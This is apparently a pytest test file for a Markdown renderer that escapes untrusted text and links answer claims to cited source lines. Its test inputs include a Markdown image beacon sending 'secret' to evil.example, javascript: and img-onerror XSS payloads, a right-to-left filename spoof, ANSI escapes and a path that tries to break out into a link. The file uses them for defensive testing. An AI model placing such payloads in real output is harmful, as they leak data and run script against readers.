"""Answers as Markdown: what is cited is linked, and nothing that others wrote becomes markup."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from loccit.core.answers import (
    Abstention,
    Answer,
    Citation,
    CitationKind,
    Claim,
    ClaimKind,
    Outcome,
    Verdict,
    VerdictLabel,
    seal,
)
from loccit.evals.markup import visible
from loccit.serving.openai_compat.markdown import code, plain, text_of

COMMIT = "1a2b3c4d5e6f" + "0" * 28
HOSTILE = [
    "![beacon](https://evil.example/?q=secret)",
    "[click me](javascript:alert(1))",
    "see https://evil.example/x and www.evil.example, or mailto:a@evil.example",
    "<img src=x onerror=alert(1)> &lt;b&gt; &#60;i&#62;",
    "**bold** _em_ __init__ ~~gone~~ `code` ``two`` $x$ \\(y\\) \\[z\\]",
    "# heading",
    "- item\n- item",
    "1. one",
    "> quote",
    "===",
    "    indented",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "[1]: https://evil.example",
    "[^1] note",
    "`unclosed [x](y) <b>",
    "a`b`c``d```",
    "\u202egnp.exe\u202c \x1b[31mred\x1b[0m \u200b",
    "a\\",
    "```\nfence\n```",
    "@somebody list[str] a_b *args **kwargs x->y",
]


def rendered(text: str) -> list[Token]:
    """What Markdown with tables, strikethrough and found links makes of a text: all tokens, flat."""
    found: list[Token] = []
    for token in MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).parse(text):
        found += [token, *(token.children or [])]
    return found


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_statement_is_shown_as_it_was_written(text: str):
    check_shown_as_written(text)


@given(st.text(st.sampled_from("ab1 _*`[]()<>!#-+=.|~$&;:/@\\\n\"'{}\u202e\x1b"), max_size=60))
def test_no_text_becomes_markup(text: str):
    check_shown_as_written(text)


def check_shown_as_written(text: str) -> None:
    tokens = rendered(plain(text))
    kinds = {token.type for token in tokens}
    assert kinds <= {"paragraph_open", "paragraph_close", "inline", "text", "code_inline"}, plain(text)
    shown = "".join(token.content for token in tokens if token.type in {"text", "code_inline"})
    # Only the marks of code spans may go: what they hold is code.
    assert without_marks(shown) == without_marks(" ".join(visible(text).split())), plain(text)
    # No finder of links sees an address, and no reader of formulas a formula, outside of code.
    prose = "".join(token.content for token in tokens if token.type == "text")
    assert re.search(r"://|www\.|[$<>\[\]]", html.unescape(prose)) is None, plain(text)


def without_marks(text: str) -> str:
    return re.sub(r"[`\s]", "", text)


@given(st.text(st.sampled_from("ab` \n\t\u202e<[*"), max_size=20))
def test_a_code_span_holds_any_text_on_one_line(text: str):
    tokens = [token for token in rendered(f"x{code(text)}x") if token.type not in {"inline"}]
    if text.strip():
        assert [token.type for token in tokens] == [
            "paragraph_open",
            "text",
            "code_inline",
            "text",
            "paragraph_close",
        ]


def citation(path: str | None = "src/a.py", *, permalink: str | None = None, start: int = 0) -> Citation:
    return Citation(
        kind=CitationKind.FILE if path else CitationKind.COMMIT,
        repo="github.com/ana/thing",
        commit=COMMIT,
        path=path,
        blob="b" * 40 if path else None,
        start_byte=start,
        end_byte=start + 4,
        start_line=3,
        end_line=4,
        sha256="0" * 64,
        quote="text",
        encoding="utf-8",
        permalink=permalink,
    )


def claim(text: str, *citations: Citation, kind: ClaimKind, label: str = "supported") -> Claim:
    verdict = Verdict(label=VerdictLabel(label), score=0.9, checker="c", version="1")
    return Claim(text=text, kind=kind, citations=citations, verdict=verdict)


def answer(*claims: Claim, why: Abstention | None = None) -> Answer:
    outcome = Outcome.ABSTAINED if not claims else Outcome.PARTIAL if why else Outcome.ANSWERED
    return seal(
        question="?",
        outcome=outcome,
        abstention=why,
        confidence=0.5,
        claims=claims,
        dropped=(),
        snapshots=(),
    )


LINK = f"https://github.com/ana/thing/blob/{COMMIT}/src/a.py#L3-L4"


def test_claims_have_numbers_that_link_to_their_places_and_each_place_one_number():
    first, second = citation(permalink=LINK), citation(start=9)
    told = text_of(
        answer(
            claim("It is made.", first, kind=ClaimKind.STATEMENT),
            claim("And kept.", second, first, kind=ClaimKind.STATEMENT, label="partly"),
        )
    )
    assert told.whole == (
        f"It is made. [1]({LINK})\n\n"
        f"And kept. (borne out in part) [2] [1]({LINK})\n\n"
        f"Sources:\n\n1. [`src/a.py:3-4 @ 1a2b3c4d5e6f`]({LINK})\n2. `src/a.py:3-4 @ 1a2b3c4d5e6f`"
    )
    assert [told.whole[link.start : link.end] for link in told.links] == [f"[1]({LINK})"] * 2
    assert [source.claims for source in told.sources] == [(1, 2), (2,)]


def test_where_no_permalink_is_known_the_page_of_the_answer_is_linked():
    told = text_of(
        answer(claim("x", citation(None), kind=ClaimKind.STATEMENT)), page="https://here.example/runs/1"
    )
    assert told.whole.startswith(
        "x [1](https://here.example/runs/1#c1)\n\nSources:\n\n1. [`commit 1a2b3c4d5e6f`]("
    )


def test_a_quotation_cannot_leave_its_fence():
    text = "a ``` b\n````\n<script>\u202e\x1b[31m\r\nlast"
    told = text_of(answer(claim(text, citation(), kind=ClaimKind.QUOTATION)))
    (fence,) = [token for token in rendered(told.whole) if token.type == "fence"]
    assert fence.content == "a ``` b\n````\n<script>\\u202e\\x1b[31m\nlast\n"


def test_a_hostile_path_stays_within_its_code_span():
    path = "a`](https://evil.example)\u202e\x1b/<b>.py"
    told = text_of(answer(claim("x", citation(path, permalink=LINK), kind=ClaimKind.STATEMENT)))
    tokens = rendered(told.whole)
    assert {token.attrGet("href") for token in tokens if token.type == "link_open"} == {LINK}
    assert not [token for token in tokens if token.type.startswith("html")]
    assert "\x1b" not in told.whole


@pytest.mark.parametrize("why", list(Abstention))
def test_an_abstention_says_so_plainly_and_how_to_go_on(why: Abstention):
    none = text_of(answer(why=why)).whole
    assert none.startswith("Not answered: ")
    assert none.endswith(".")
    assert none.count(". ") >= 1
    part = text_of(answer(claim("x", citation(), kind=ClaimKind.QUOTATION), why=why)).whole
    assert part.startswith("Answered in part: ")
    assert "\n\n[1] `src/a.py:3-4`:\n\n```\nx\n```" in part
